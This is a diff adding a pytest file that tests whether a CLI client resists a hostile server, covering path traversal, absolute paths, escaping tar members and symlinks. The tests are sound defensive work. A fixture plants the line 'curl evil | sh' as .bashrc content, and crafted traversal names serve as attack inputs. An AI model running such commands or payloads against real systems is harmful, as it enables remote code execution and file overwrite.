@@ -1,0 +1,129 @@
+"""The client against a server it should not trust blindly: a compromised or impersonated Gridgate,
+or a proxy in front of it. A small HTTP server on 127.0.0.1 answers what each test scripts; the
+CLI runs in this process (``cli.main``) with its own config directory, as a user runs it. No
+database: what is checked is what lands on the user's disk and terminal."""
+
+import json
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from gridgate_client import cli
+
+CASE = "0f0e0d0c-0b0a-0908-0706-050403020100"
+
+
+class Hostile:
+    """``answers[path] = (status, headers, body)`` for GET ``/api/v1/<path>``; anything else 404.
+    ``requests`` records each request's path and Authorization header."""
+
+    def __init__(self):
+        self.answers: dict[str, tuple[int, dict, bytes]] = {}
+        self.requests: list[tuple[str, str | None]] = []
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                server.requests.append((self.path, self.headers.get("Authorization")))
+                path = self.path.split("?", 1)[0].removeprefix("/api/v1/")
+                status, headers, body = server.answers.get(path, (404, {}, b'{"detail": "Not found."}'))
+                self.send_response(status)
+                for name, value in headers.items():
+                    self.send_header(name, value)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server.server_address[1]}"
+
+    def json(self, path: str, body, status: int = 200) -> None:
+        self.answers[path] = (status, {"Content-Type": "application/json"}, json.dumps(body).encode())
+
+
+@pytest.fixture
+def hostile(monkeypatch, tmp_path):
+    server = Hostile()
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("GRIDGATE_URL", server.url)
+    monkeypatch.setenv("GRIDGATE_TOKEN", "secret-token-of-alice")
+    yield server
+    server.server.shutdown()
+    server.server.server_close()
+
+
+def gridgate(*args) -> int:
+    return cli.main(list(args))
+
+
+@pytest.mark.parametrize("name", ["../escaped.txt", "results/../../escaped.txt"])
+def test_case_get_never_writes_outside_the_output_directory(hostile, tmp_path, name, capsys):
+    """A name listed by the server (``gridgate case ls --json | jq …``) or typed by the user that
+    leads out of ``-o`` is refused before anything is asked or written."""
+    out = tmp_path / "work" / "out"
+    hostile.answers[f"cases/{CASE}/files/escaped.txt"] = (200, {}, b"planted")
+    hostile.answers[f"cases/{CASE}/escaped.txt"] = (200, {}, b"planted")
+
+    code = gridgate("case", "get", CASE, name, "-o", str(out))
+
+    assert code == 2
+    assert "leads out of" in capsys.readouterr().err
+    assert not list(tmp_path.rglob("escaped.txt*"))
+    assert hostile.requests == []
+
+
+def test_case_get_refuses_an_absolute_path(hostile, tmp_path, capsys):
+    target = tmp_path / "home" / ".bashrc"
+    hostile.answers[f"cases/{CASE}/files/{target}"] = (200, {}, b"curl evil | sh\n")
+
+    code = gridgate("case", "get", CASE, str(target), "-o", str(tmp_path / "out"))
+
+    assert code == 2
+    assert not target.exists()
+    assert hostile.requests == []
+
+
+def _archive(members) -> bytes:
+    import io
+    import tarfile
+
+    data = io.BytesIO()
+    with tarfile.open(fileobj=data, mode="w:gz") as tar:
+        for name, kind, content in members:
+            member = tarfile.TarInfo(name)
+            if kind == "link":
+                member.type, member.linkname = tarfile.SYMTYPE, content
+                tar.addfile(member)
+            else:
+                member.size = len(content)
+                tar.addfile(member, io.BytesIO(content))
+    return data.getvalue()
+
+
+@pytest.mark.parametrize("member", [f"{CASE}/../../escaped.txt", f"{CASE}//tmp/escaped.txt", f"{CASE}/"])
+def test_case_get_all_refuses_an_archive_member_that_leads_out(hostile, tmp_path, member):
+    archive = _archive([(f"{CASE}/results/ok.txt", "file", b"ok"), (member, "file", b"planted")])
+    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
+
+    code = gridgate("case", "get", CASE, "--all", "-o", str(tmp_path / "a" / "out"))
+
+    assert code == 1
+    assert not list(tmp_path.rglob("escaped.txt"))
+    assert not (tmp_path / "tmp").exists()
+
+
+def test_case_get_all_writes_no_link_from_the_archive(hostile, tmp_path):
+    archive = _archive([(f"{CASE}/results/rc", "link", "../../.bashrc"), (f"{CASE}/results/ok.txt", "file", b"ok")])
+    hostile.answers[f"cases/{CASE}/archive/"] = (200, {"Content-Type": "application/gzip"}, archive)
+    out = tmp_path / "out"
+
+    assert gridgate("case", "get", CASE, "--all", "-o", str(out)) == 0
+    assert sorted(path.name for path in out.rglob("*")) == ["ok.txt", "results"]
